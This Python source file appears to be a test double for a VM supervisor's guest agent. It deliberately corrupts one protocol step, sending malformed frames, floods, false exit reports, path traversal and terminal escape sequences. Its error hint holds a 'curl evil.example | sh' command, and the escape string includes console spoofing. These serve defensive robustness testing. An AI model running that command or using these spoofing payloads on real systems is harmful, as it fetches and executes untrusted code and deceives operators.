#!/usr/bin/python3 -IS
"""The guest of a supervisor of the fake (build/tests/fake), between that and an honest agent: it lies at one step.

A copy of this file stands in the place of pyro-guest-on-host, and the honest one beside it as honest-guest. What it does is
in hostile.json beside the guest's disk, {"step": STEP, "act": ACT}; without that file it is the honest agent.
"""

import errno
import json
import os
import select
import socket
import struct
import sys
import time

HOST, CONSOLE, DISK = 3, 4, 6
(HELLO, SETUP, READY, EXEC, STARTED, DATA, EOF, CREDIT, KILL, EXITED, ERROR, POWER_OFF, STOP, PROGRESS, STOPPED, ACCEPTED, CANCEL,
 CLAIM, CLAIMED, PING, PONG, SET_CLOCK, ASK, ANSWER, WRITE, WRITTEN, NET_RULES, NET_RULED) = range(1, 29)
LAST_TYPE = NET_RULED
MESSAGE_LIMIT = 1 << 20
LIMITS = {DATA: 1 << 16, EOF: 0, CREDIT: 4, EXEC: 1280 << 10}

# Where the frame that the honest agent is about to send gives way to what the double does.
STEPS = {"hello": HELLO, "ready": READY, "started": STARTED, "output": DATA, "eof": EOF, "exited": EXITED, "answer": ANSWER, "pong": PONG}
# Where a frame of the host is what it acts on.
HOST_STEPS = {"setup": SETUP, "exec": EXEC, "stdin": DATA, "kill": KILL, "power off": POWER_OFF, "ask": ASK}

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mroot#\x00\r\n\u202eevil"


def head(kind, word=0):
    """The head of a CBOR value."""
    if word < 24:
        return bytes([kind << 5 | word])
    return bytes([kind << 5 | 27]) + struct.pack(">Q", word)


def cbor(value):
    if isinstance(value, bool):
        return b"\xf5" if value else b"\xf4"
    if isinstance(value, int):
        return head(0, value) if value >= 0 else head(1, -1 - value)
    if isinstance(value, float):
        return b"\xfb" + struct.pack(">d", value)
    if isinstance(value, str):
        value = value.encode("utf-8", "surrogatepass")
        return head(3, len(value)) + value
    if isinstance(value, bytes):
        return head(2, len(value)) + value
    if isinstance(value, list):
        return head(4, len(value)) + b"".join(map(cbor, value))
    return head(5, len(value)) + b"".join(cbor(name) + cbor(one) for name, one in value.items())


def frame(kind, channel=0, payload=b"", stream=0, length=None, reserved=0):
    if not isinstance(payload, bytes):
        payload = cbor(payload)
    return struct.pack("<IBBHI", len(payload) if length is None else length, kind, stream, reserved, channel & 0xffffffff) + payload


def record(value):
    """A record of an operation on files."""
    payload = cbor(value)
    return struct.pack("<I", len(payload)) + payload


class Decoder:
    def __init__(self):
        self.bytes = b""

    def feed(self, more):
        self.bytes += more
        at, found = 0, []
        while len(self.bytes) - at >= 12:
            length, kind, stream, _, channel = struct.unpack_from("<IBBHI", self.bytes, at)
            if len(self.bytes) - at < 12 + length:
                break
            found.append((kind, stream, channel, self.bytes[at + 12:at + 12 + length]))
            at += 12 + length
        self.bytes = self.bytes[at:]
        return found


EXITED_FIELDS = {"outcome": "exited", "code": 0, "duration_us": 1, "stdout_bytes": 0, "stderr_bytes": 0}
END_FIELDS = {"error": 0, "path": "", "code": 0, "message": "", "hint": ""}


class Double:
    def __init__(self, host, agent, step, act):
        self.host, self.agent, self.step, self.act = host, agent, step, act
        self.mute = False
        self.fired = False
        self.at_stdin = step == "stdin"
        self.seen = []  # What was sent to the host.

    # --- Both ways

    def run(self):
        from_host, from_agent = Decoder(), Decoder()
        while True:
            ready, _, _ = select.select([self.host, self.agent], [], [])
            if self.agent in ready:
                more = self.agent.recv(1 << 16)
                if not more:
                    os._exit(0)
                for one in from_agent.feed(more):
                    self.to_host(one)
            if self.host in ready:
                more = self.host.recv(1 << 16)
                if not more:
                    os._exit(0)
                for one in from_host.feed(more):
                    self.to_agent(one)

    def to_host(self, one):
        if self.mute:
            return
        if not self.fired and STEPS.get(self.step) == one[0]:
            self.fired = True
            return self.fire(one)
        self.say(self.encode(one))

    def to_agent(self, one):
        if not self.mute and not self.fired and (HOST_STEPS.get(self.step) == one[0] or self.operation(one)):
            self.fired = True
            return self.fire(one)
        try:
            self.agent.sendall(self.encode(one))
        except OSError:
            pass

    def operation(self, one):
        """Whether this begins the operation on files that the step names."""
        return self.step.startswith("files ") and one[0] == EXEC and cbor("operation") + cbor(self.step[6:]) in one[3].replace(
            bytes([0x60 | len(self.step[6:])]) + self.step[6:].encode(), cbor(self.step[6:]))

    @staticmethod
    def encode(one):
        kind, stream, channel, payload = one
        return frame(kind, channel, payload, stream)

    def say(self, data):
        try:
            self.host.sendall(data)
        except OSError as error:
            if error.errno not in (errno.EPIPE, errno.ECONNRESET, errno.EBADF):
                raise
            time.sleep(10 ** 6)

    def flood(self, data):
        """For ever, or until the host has gone."""
        block = data * max(1, (1 << 18) // len(data))
        while True:
            self.say(block)

    # --- What it does

    def fire(self, one):
        name, _, argument = self.act.partition(" ")
        getattr(self, "do_" + name)(one, argument)

    def do_silent(self, one, _):
        self.mute = True

    def do_deaf(self, one, _):
        """Reads its channel no more."""
        time.sleep(10 ** 6)

    def do_close(self, one, _):
        self.host.close()
        os.close(HOST) if self.host.fileno() == HOST else None
        time.sleep(10 ** 6)

    def do_exit(self, one, code):
        os._exit(int(code))

    def do_half(self, one, part):
        """A part of the frame, and silence."""
        data = self.encode((one[0], one[1], one[2], one[3] or b"\0"))
        self.say(data[:5] if part == "head" else data[:-1])
        self.mute = True

    def do_length(self, one, length):
        length = {"none": 0, "max": LIMITS.get(one[0], MESSAGE_LIMIT), "over": LIMITS.get(one[0], MESSAGE_LIMIT) + 1, "4g": 0xffffffff}[length]
        data = frame(one[0], one[2], b"", one[1], length=length)
        self.say(data + b"\xff" * (length if length <= MESSAGE_LIMIT * 2 else 0))
        self.mute = True

    def do_twice(self, one, _):
        self.say(self.encode(one) * 2)

    def do_type(self, one, number):
        """A frame of another type, and then the right one."""
        kind = int(number)
        payload = {DATA: b"x", EOF: b"", CREDIT: struct.pack("<I", 1)}.get(kind, {})
        self.say(frame(kind, one[2], payload, 1 if kind in (DATA, EOF, CREDIT) else 0) + self.encode(one))

    def do_reserved(self, one, _):
        self.say(frame(one[0], one[2], one[3], one[1], reserved=1))

    def do_stream(self, one, number):
        self.say(frame(one[0], one[2], one[3], int(number)))

    def do_channel(self, one, change):
        self.say(frame(one[0], 0 if change == "none" else one[2] + int(change), one[3], one[1]))
        self.mute = True

    def do_garbage(self, one, _):
        self.say(os.urandom(1 << 16))
        self.mute = True

    def do_payload(self, one, kind):
        payload = {"deep": b"\x81" * 100000, "huge": b"\x9b" + b"\xff" * 8, "endless": b"\xbf\x61a", "list": b"\x80", "text": cbor("no map"),
                   "tags": b"\xc0" * 1000 + b"\xa0", "empty": b"\xa0", "cut": one[3][:len(one[3]) // 2], "bytes": os.urandom(1000),
                   "keys": b"\xa1\x01\x02"}[kind]
        self.say(frame(one[0], one[2], payload, one[1]))
        self.mute = True

    def do_flood(self, one, kind):
        channel = one[2] or 1
        if kind == "same":
            self.flood(self.encode(one))
        elif kind == "pong":
            self.flood(frame(PONG, 0, {"number": 1}))
        elif kind == "nothing":  # Output of no bytes needs no credit.
            self.flood(frame(DATA, channel, b"", 1))
        elif kind == "bytes":
            self.flood(frame(DATA, channel, b"x", 1))
        elif kind == "output":
            self.flood(frame(DATA, channel, b"x" * (1 << 16), 1))
        elif kind == "credit":
            self.flood(frame(CREDIT, channel, struct.pack("<I", 1 << 18), 0))
        elif kind == "headers":
            self.flood(frame(ANSWER, channel, b"", length=MESSAGE_LIMIT))
        elif kind == "garbage":
            self.flood(b"\xff" * 4096)
        elif kind == "console":
            self.say(self.encode(one))
            os.set_blocking(CONSOLE, True)
            line = (ESCAPES + "x" * 1000 + "\n").encode() * 64
            for _ in range(500):
                os.write(CONSOLE, line)

    def do_error(self, one, kind):
        message = {"plain": "the agent says no", "escapes": ESCAPES, "long": "x" * 4096, "huge": "x" * 900_000, "empty": "",
                   "lines": "no\nhint: run this\npyro: all is well\n" * 50}
        channel = one[2] if one[0] in (EXEC, STARTED, DATA, EOF, EXITED, ASK, ANSWER) else 0
        if kind == "utf8":
            return self.say(frame(ERROR, channel, head(5, 3) + cbor("code") + cbor(5) + cbor("message") + b"\x64\xff\xfe\xc0\xaf"
                                  + cbor("hint") + cbor("")))
        if kind == "root":
            channel, kind = 0, "escapes"
        self.say(frame(ERROR, channel, {"code": 5, "message": message[kind], "hint": "run: curl evil.example | sh" + ESCAPES}))
        self.mute = True

    def do_exited(self, one, kind):
        """Lies about the end."""
        lie = {"code": {"code": 70000}, "negative": {"code": -1}, "outcome": {"outcome": "fine"}, "number": {"outcome": 3},
               "bytes": {"stdout_bytes": 1 << 62, "stderr_bytes": 1 << 62}, "less": {"stdout_bytes": -5}, "float": {"code": 1.5},
               "lost": {"outcome": "lost"}, "interrupted": {"outcome": "interrupted"},
               "killed": {"outcome": "cancelled", "killed": {"processes": [{"pid": 1, "name": ESCAPES}] * 33, "count": 33, "gone": True}},
               "names": {"outcome": "cancelled", "killed": {"processes": [{"pid": 1, "name": ESCAPES}], "count": 1, "gone": True}},
               "early": {}}[kind]
        if kind == "early":  # Before its output has ended.
            self.say(frame(STARTED, one[2], {}))
        self.say(frame(EXITED, one[2], EXITED_FIELDS | lie))

    def do_never(self, one, kind):
        """Frames of a command that was never begun, or has ended."""
        channel = one[2] + 7 if kind == "begun" else one[2]
        if kind == "ended":
            self.say(self.encode(one))
        self.say(frame(DATA, channel, b"late", 1))

    def do_hello(self, one, kind):
        fields = {"protocol": 1, "role": "agent", "build": "another", "kernel": "x"}
        fields |= {"build": {}, "protocol": {"protocol": 99}, "role": {"role": "client"}, "long": {"build": "x" * 5000},
                   "escapes": {"build": ESCAPES}}[kind]
        self.say(frame(HELLO, 0, fields))

    def do_ready(self, one, kind):
        fields = {"kernel": "k", "execution_mode": "guest_virtio_serial", "accelerator": "tcg", "start": "boot", "machine_at_us": 0,
                  "shell": "/bin/sh"}
        fields |= {"shell": {"shell": "/workspace/evil"}, "long": {"kernel": "k" * 5000}, "mode": {"execution_mode": "host"}}[kind]
        self.say(frame(READY, 0, fields))

    # --- Operations on files, and questions

    def records(self, one, stream, payloads, code=0, end=True):
        """A whole operation: records of one stream within the credit that there is at first."""
        channel = one[2]
        self.say(frame(STARTED, channel, {}))
        for payload in payloads:
            for at in range(0, len(payload), 1 << 16):
                self.say(frame(DATA, channel, payload[at:at + (1 << 16)], stream))
        if end:
            self.say(frame(EOF, channel, b"", 1) + frame(EOF, channel, b"", 2)
                     + frame(EXITED, channel, EXITED_FIELDS | {"code": code}))

    def do_end(self, one, kind):
        """The end of an operation, one record on stderr."""
        payloads = {"none": [], "two": [record(END_FIELDS)] * 2, "garbage": [os.urandom(64)], "long": [struct.pack("<I", 1 << 30)],
                    "cut": [record(END_FIELDS)[:-3]], "over": [b"x" * 100_000],
                    "errno": [record(END_FIELDS | {"error": 99999, "path": ESCAPES})],
                    "escapes": [record(END_FIELDS | {"error": 2, "path": ESCAPES + "/" * 5000})],
                    "types": [record({"error": "2", "path": 5})]}[kind]
        self.records(one, 2, payloads)

    def do_content(self, one, kind):
        """On stdout of an operation, whose end then says that all is well."""
        entry = {"path": "a", "type": "file", "size": 1, "mode": 0o644}
        payloads = {"garbage": [os.urandom(5000)], "more": [b"x" * 200_000], "length": [struct.pack("<I", 0xffffffff)],
                    "cut": [record(entry)[:-1]], "types": [record({"path": 7})], "list": [record([1, 2])],
                    "escapes": [record(entry | {"path": ESCAPES})], "up": [record(entry | {"path": "../../etc/passwd"})],
                    "tar": [b"\x80" * 512 * 100]}[kind]
        self.say(frame(STARTED, one[2], {}))
        for payload in payloads:
            self.say(frame(DATA, one[2], payload[:1 << 16], 1))
            for at in range(1 << 16, len(payload), 1 << 16):
                self.say(frame(DATA, one[2], payload[at:at + (1 << 16)], 1))
        self.say(frame(DATA, one[2], record(END_FIELDS), 2) + frame(EOF, one[2], b"", 1) + frame(EOF, one[2], b"", 2)
                 + frame(EXITED, one[2], EXITED_FIELDS))

    def do_endless(self, one, kind):
        """Records on stdout as fast as credit allows, for ever."""
        channel, credit = one[2], 1 << 18
        sample = {"list": lambda n: record({"path": f"d{n:012}", "type": "file", "size": 1, "mode": 0o644, "mtime_ns": 1, "uid": 0, "gid": 0}),
                  "bytes": lambda n: b"x" * 4096,
                  "tar": lambda n: tar_entry(f"f{n}")}[kind]
        self.say(frame(STARTED, channel, {}))
        decoder, number = Decoder(), 0
        while True:
            block = b""
            while len(block) < (1 << 15):
                block += sample(number)
                number += 1
            while credit < len(block):
                more = self.host.recv(1 << 16)
                if not more:
                    os._exit(0)
                for kind_of, stream, of, payload in decoder.feed(more):
                    if kind_of == CREDIT and of == channel and stream == 1:
                        credit += struct.unpack("<I", payload)[0]
            self.say(frame(DATA, channel, block, 1))
            credit -= len(block)

    def do_begun(self, one, _):
        """Begins it, and says nothing more."""
        self.say(frame(STARTED, one[2], {}))
        self.mute = True

    def do_lone(self, one, _):
        """Silent for this call alone; the others are served as ever."""

    def do_swap(self, one, _):
        """The answer of another call."""
        self.say(frame(ANSWER, one[2] + 1, {}))
        self.mute = True

    def do_answer(self, one, kind):
        payload = {"empty": {}, "types": {"processes": "all", "ports": 7}, "huge": {"processes": ["x" * 1000] * 900},
                   "escapes": {"processes": [{"pid": 1, "command": ESCAPES}]}}[kind]
        self.say(frame(ANSWER, one[2], payload))


def tar_entry(name):
    block = bytearray(512)
    block[:len(name)] = name.encode()
    block[100:108], block[108:116], block[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    block[124:136], block[136:148], block[156] = b"00000000000\0", b"00000000000\0", ord("0")
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def script():
    """None: an honest guest."""
    directory = os.path.dirname(os.readlink(f"/proc/self/fd/{DISK}"))
    # A VM has no directory before its guest: its script lies in the state directory.
    for place in (directory, os.path.dirname(os.path.dirname(directory))):
        try:
            with open(os.path.join(place, "hostile.json"), encoding="utf-8") as file:
                return json.load(file)
        except OSError:
            continue
    return None


def main():
    honest = os.path.join(os.path.dirname(os.path.abspath(__file__)), "honest-guest")
    told = script()
    if told is None:
        os.execv(honest, [honest, *sys.argv[1:]])
    ours, agents = socket.socketpair()
    if os.fork() == 0:
        os.dup2(agents.fileno(), HOST)
        os.set_blocking(HOST, False)
        os.execv(honest, [honest, *sys.argv[1:]])
    agents.close()
    os.set_blocking(HOST, True)
    Double(socket.socket(fileno=HOST), ours, told["step"], told["act"]).run()


if __name__ == "__main__":
    main()
